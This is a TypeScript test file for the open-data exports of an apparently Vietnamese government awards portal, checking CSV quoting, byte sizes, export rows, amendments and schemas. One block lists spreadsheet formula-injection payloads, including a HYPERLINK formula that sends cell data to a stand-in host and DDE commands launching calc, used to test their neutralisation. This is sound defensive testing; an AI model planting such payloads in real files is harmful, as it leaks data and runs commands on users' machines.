import { parse } from 'csv-parse/sync';
import { mkdtempSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeOpenData } from '../../src/build/content-steps.ts';
import { buildPortal } from '../../src/model/portal.ts';
import { csvField } from '../../src/text/csv.ts';
import { amendments, byteSize, datasetFiles, exportContext, exportRows, formatSize, recordsCsv, rowsCsv, rowsJson, rowsText, statsRows, toCsv } from '../../src/publish/exports.ts';
import { neutraliseFormula } from '../../src/text/formula-guard.ts';
import { yearFigures } from '../../src/model/stats.ts';
import { validateFolder } from '../../src/validate/validate.ts';
import { EXPORT_COLUMNS, STATS_COLUMNS, exportFileJsonSchema, exportRowSchema } from '../../src/schemas/export.ts';
import { SAMPLE_CONTENT } from '../helpers.ts';

const SITE = 'https://khenthuong.example.gov.vn';
const portal = buildPortal({ ...validateFolder(SAMPLE_CONTENT).content, stories: [] });
const ctx = exportContext(portal, SITE, '/');

describe('CSV fields (RFC 4180)', () => {
  it('leaves plain text alone and writes missing values as empty cells', () => {
    expect(csvField('Hoàng Văn Kháy')).toBe('Hoàng Văn Kháy');
    expect(csvField(12)).toBe('12');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });
  it('quotes commas, quotes and line breaks, doubling the quotes', () => {
    expect(csvField('thôn số 3, xã Tú Đoạn')).toBe('"thôn số 3, xã Tú Đoạn"');
    expect(csvField('phong trào "Dạy tốt"')).toBe('"phong trào ""Dạy tốt"""');
    expect(csvField('dòng 1\ndòng 2')).toBe('"dòng 1\ndòng 2"');
    expect(csvField('dòng 1\r\ndòng 2')).toBe('"dòng 1\r\ndòng 2"');
  });
});

describe('CSV cells that a spreadsheet would run as formulas (OWASP CSV injection)', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    '=1+1',
    '+84 912 345 678',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
  ];

  it('get a leading single quote, whatever starts them', () => {
    for (const value of hostile) expect(neutraliseFormula(value), JSON.stringify(value)).toBe(`'${value}`);
  });
  it('are quoted as well when they hold a comma, a quote or a line break', () => {
    expect(csvField('=HYPERLINK("http://evil.example","x")')).toBe('"\'=HYPERLINK(""http://evil.example"",""x"")"');
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
  });
  it('are left alone when the sign is not first, and numbers are written as numbers', () => {
    for (const value of ['Hoàng Văn Kháy', 'Phó Chủ tịch - kiêm Trưởng ban', 'a=b', "'=1+1 đã có nháy", '']) expect(neutraliseFormula(value)).toBe(value);
    expect(csvField(-5)).toBe('-5');
    expect(csvField(0)).toBe('0');
  });
  it('parse back, in every row of a file, to the text with its quote, so no cell starts like a formula', () => {
    const records = parse(toCsv(['name', 'role'], hostile.map((v) => [v, v])), { bom: true }) as string[][];
    for (const [i, value] of hostile.entries()) expect(records[i + 1]).toEqual([`'${value}`, `'${value}`]);
    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
  it('stay exact in JSON and go through the export rows to the CSV neutralised', () => {
    const decision = portal.decisionById.get('2017/1820-qd-ubnd-bang-khen-nong-thon-moi')!;
    const [first] = decision.rows;
    const evil = { ...decision, rows: [{ ...first!, recipient: { ...first!.recipient, name: hostile[0]!, role: '-1+1', unit: '@x' } }] };
    const rows = exportRows(ctx, [evil]);
    const [record] = parse(rowsCsv(rows), { bom: true, columns: true }) as Record<string, string>[];
    expect([record!['recipientName'], record!['role'], record!['unit']]).toEqual([`'${hostile[0]}`, "'-1+1", "'@x"]);
    const json = JSON.parse(rowsJson(ctx, rows, SITE)) as { rows: { recipientName: string; role: string; unit: string }[] };
    expect([json.rows[0]!.recipientName, json.rows[0]!.role, json.rows[0]!.unit]).toEqual([hostile[0], '-1+1', '@x']);
  });
});

describe('CSV files', () => {
  const csv = toCsv(['a', 'b'], [['x, y', 'say "hi"'], ['line\nbreak', null]]);
  it('start with a UTF-8 byte order mark so Excel reads Vietnamese', () => {
    expect(csv.startsWith('\uFEFFa,b\r\n')).toBe(true);
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
  it('end every record with CRLF and parse back to the same values', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/"[^"]*(?:""[^"]*)*"/g, '').split('\r\n')).toHaveLength(4);
    expect(parse(csv, { bom: true })).toEqual([['a', 'b'], ['x, y', 'say "hi"'], ['line\nbreak', '']]);
  });
  it('write records in the order of the columns given', () => {
    expect(recordsCsv(['b', 'a'], [{ a: 1, b: 2 }])).toBe('\uFEFFb,a\r\n2,1\r\n');
  });
  it('measure sizes in UTF-8 bytes', () => {
    expect(byteSize('\uFEFFĐ')).toBe(5);
    expect(formatSize(300_602)).toBe('294 KB');
    expect(formatSize(3_300_000)).toBe('3,1 MB');
    expect(formatSize(10)).toBe('1 KB');
  });
});

describe('export rows of the sample', () => {
  const rows = exportRows(ctx, portal.decisions);

  it('has one row per recipient of every decision, each valid', () => {
    expect(rows).toHaveLength(portal.recipientCount);
    expect(rows).toHaveLength(703);
    for (const row of rows) exportRowSchema.parse(row);
  });

  it('gives the decision, the award, the place of the day and the row anchor', () => {
    const khay = rows.find((r) => r.recipientName === 'Hoàng Văn Kháy' && r.decisionNumber === '1820/QĐ-UBND');
    expect(khay).toEqual({
      decisionId: '2017/1820-qd-ubnd-bang-khen-nong-thon-moi',
      decisionNumber: '1820/QĐ-UBND',
      date: '2017-09-28',
      datePrecision: 'day',
      signer: 'KT. Chủ tịch – Phó Chủ tịch Phạm Ngọc Minh (minh họa)',
      authorityId: 'ubnd-tinh-lang-son',
      authorityName: 'Ủy ban nhân dân tỉnh Lạng Sơn',
      line: 1,
      awardId: 'bang-khen-chu-tich-ubnd-tinh',
      awardName: 'Bằng khen của Chủ tịch Ủy ban nhân dân tỉnh',
      level: 'province',
      reason: 'Đã có thành tích xuất sắc trong phong trào "Cả nước chung sức xây dựng nông thôn mới" giai đoạn 2011–2016',
      achievement: null,
      achievementYear: 2017,
      row: 4,
      stt: null,
      group: null,
      honorific: null,
      recipientName: 'Hoàng Văn Kháy',
      kind: 'individual',
      role: 'Nông dân',
      unit: 'thôn Nà Vàng',
      roleAndUnit: null,
      placeId: 'loc-binh/xa-nhu-khue',
      placeName: 'xã Như Khuê',
      communeName: 'xã Như Khuê',
      districtName: 'huyện Lộc Bình',
      provinceName: 'tỉnh Lạng Sơn',
      occupation: 'farmer',
      status: 'in-force',
      amendment: null,
      amendsIds: null,
      amendsNumbers: null,
      amendedByIds: null,
      amendedByNumbers: null,
      rowStatus: 'in-force',
      correctedBy: null,
      correctedFrom: null,
      sourceKind: null,
      sourceTitle: null,
      sourceUrl: null,
      sourceChecked: null,
      url: `${SITE}/quyet-dinh/2017/1820-qd-ubnd-bang-khen-nong-thon-moi/#r4`,
    });
  });

  it('marks the correction and the corrected decision on every row of each, both ways', () => {
    const correction = rows.filter((r) => r.decisionNumber === '1735/QĐ-UBND');
    expect(correction.length).toBeGreaterThan(0);
    for (const r of correction)
      expect([r.amendment, r.amendsIds, r.amendsNumbers, r.amendedByIds, r.status]).toEqual(['correction', '2017/36-qd-ubnd-lao-dong-tien-tien-2016', '36/QĐ-UBND', null, 'in-force']);
    const corrected = rows.filter((r) => r.decisionNumber === '36/QĐ-UBND');
    expect(corrected.length).toBeGreaterThan(100);
    for (const r of corrected)
      expect([r.amendment, r.amendsIds, r.amendedByIds, r.amendedByNumbers, r.status]).toEqual([null, null, '2017/1735-qd-ubnd-dinh-chinh-lao-dong-tien-tien-2016', '1735/QĐ-UBND', 'corrected']);
    expect(new Set(rows.filter((r) => r.amendment).map((r) => r.decisionId))).toEqual(new Set(['2017/1735-qd-ubnd-dinh-chinh-lao-dong-tien-tien-2016']));
  });

  it('marks only the row a correction names, with its corrected value and the old one in its own column', () => {
    const corrected = rows.filter((r) => r.rowStatus === 'corrected');
    expect(corrected.map((r) => [r.decisionId, r.row, r.recipientName, r.correctedBy, r.correctedFrom, r.status])).toEqual([
      ['2017/36-qd-ubnd-lao-dong-tien-tien-2016', 4, 'Nông Thiện Lan', '2017/1735-qd-ubnd-dinh-chinh-lao-dong-tien-tien-2016', 'recipientName: Nông Thiên Lan', 'corrected'],
    ]);
    const others = rows.filter((r) => r.decisionNumber === '36/QĐ-UBND' && r.row !== 4);
    expect(others.length).toBeGreaterThan(100);
    for (const r of others) expect([r.rowStatus, r.correctedBy, r.correctedFrom]).toEqual(['in-force', null, null]);
    expect(rows.some((r) => r.recipientName === 'Nông Thiên Lan')).toBe(false);
  });

  it('lists a revocation first, and later changes in date order, numbers beside ids', () => {
    const a = portal.decisionById.get('2017/1820-qd-ubnd-bang-khen-nong-thon-moi')!;
    const b = portal.decisionById.get('2017/36-qd-ubnd-lao-dong-tien-tien-2016')!;
    const c = portal.decisionById.get('2017/1735-qd-ubnd-dinh-chinh-lao-dong-tien-tien-2016')!;
    const revoker = { ...c, data: { ...c.data, corrects: [b.id], revokes: [a.id] } };
    expect(amendments(portal, revoker)).toEqual({
      amendment: 'revocation',
      amendsIds: `${a.id} ${b.id}`,
      amendsNumbers: '1820/QĐ-UBND; 36/QĐ-UBND',
      amendedByIds: null,
      amendedByNumbers: null,
    });
    const twice = { ...b, data: { ...b.data, correctedBy: [c.id], revokedBy: a.id } };
    expect(amendments(portal, twice)).toMatchObject({ amendment: null, amendedByIds: `${a.id} ${c.id}`, amendedByNumbers: '1820/QĐ-UBND; 1735/QĐ-UBND' });
  });

  it('writes a CSV whose header is the schema and whose records are the rows', () => {
    const records = parse(rowsCsv(rows), { bom: true, columns: true }) as Record<string, string>[];
    expect(Object.keys(records[0]!)).toEqual(EXPORT_COLUMNS);
    expect(records).toHaveLength(703);
    expect(records[0]!['recipientName']).toBe(rows[0]!.recipientName);
  });

  it('keeps the base path in URLs when the site is served under a sub-path', () => {
    const [row] = exportRows(exportContext(portal, SITE, '/khen-thuong/'), [portal.decisionById.get('2017/1820-qd-ubnd-bang-khen-nong-thon-moi')!]);
    expect(row!.url).toBe(`${SITE}/khen-thuong/quyet-dinh/2017/1820-qd-ubnd-bang-khen-nong-thon-moi/#r1`);
  });
});

describe('statistics tables', () => {
  it('are the figures of src/model/stats.ts, award by award', () => {
    const figures = yearFigures(portal.decisions, 2017);
    const rows = statsRows(figures, portal.awards);
    expect(rows.map((r) => [r.awardId, r.collective, r.individual, r.household, r.total])).toEqual(
      figures.byAward.map((f) => [f.award, f.byKind.collective, f.byKind.individual, f.byKind.household, f.total]),
    );
    expect(Object.keys(rows[0]!)).toEqual(STATS_COLUMNS);
  });
});

describe('the JSON Schema', () => {
  it('is generated from the Zod model, with its descriptions and required fields', () => {
    const schema = exportFileJsonSchema('https://example.org/s.json') as {
      $id: string;
      properties: { rows: { items: { required: string[]; properties: Record<string, { description?: string }> } } };
    };
    expect(schema.$id).toBe('https://example.org/s.json');
    expect(schema.properties.rows.items.required).toEqual(EXPORT_COLUMNS);
    expect(schema.properties.rows.items.properties['row']?.description).toContain('STT');
  });
});

describe('the whole data set, written in pieces', () => {
  it('is, piece by piece, exactly the CSV and the JSON of every row, and its sizes are those bytes', async () => {
    const rows = exportRows(ctx, portal.decisions);
    const files = datasetFiles(ctx);
    // As the build writes them (src/build/content-steps.ts): a head, one piece per decision with rows, a tail.
    const withRows = portal.decisions.filter((d) => d.rows.length);
    const [csv, json] = files.map((file) => [file.head, ...withRows.map((d, i) => file.piece(rowsText(exportRows(ctx, [d])), i === 0)), file.tail]);
    expect(csv!.join('')).toBe(rowsCsv(rows));
    expect(json!.join('')).toBe(rowsJson(ctx, rows, ctx.absolute(ctx.urls.openData())));
    // The sizes the open-data step counts while it writes (the open-data page shows them) are those bytes.
    const out = mkdtempSync(join(tmpdir(), 'portal-open-data-'));
    const { datasetSizes } = await writeOpenData(out, ctx);
    expect(files.map((f) => datasetSizes[f.file])).toEqual([Buffer.byteLength(rowsCsv(rows)), Buffer.byteLength(json!.join(''))]);
    expect(files.map((f) => statSync(join(out, 'data', f.file)).size)).toEqual(files.map((f) => datasetSizes[f.file]));
    // The spreadsheet beside them (the sample's rows fit one), with its size too.
    expect(statSync(join(out, 'data', 'khen-thuong.xlsx')).size).toBe(datasetSizes['khen-thuong.xlsx']);
  });
});
